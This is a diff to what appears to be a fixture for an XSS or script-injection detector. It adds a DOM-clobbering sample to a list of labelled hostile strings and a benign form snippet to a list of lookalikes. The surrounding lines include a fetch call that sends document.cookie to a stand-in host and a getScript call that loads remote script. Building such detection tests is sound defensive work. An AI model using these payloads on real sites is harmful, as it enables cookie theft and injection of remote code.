@@ -103,6 +103,7 @@ CLASSES = [
     ("fetch('//x.example',{method:'POST',body:document.cookie})", "js:"),
     ("$.getScript('//x.example/x.js')", "js:call getscript"),
     ("jQuery.globalEval('alert(1)')", "js:call globaleval"),
+    ("<img name=getElementById>", "html:<img name=getElementById"),
 ]
 
 LOOKALIKES = [
@@ -114,6 +115,7 @@ LOOKALIKES = [
     "a<b && c>d",
     "<john@example.com>",
     "window.location.href vs window.location.replace",
+    '<input type="text" name="q"><textarea name="body"></textarea>',
 ]
 
 
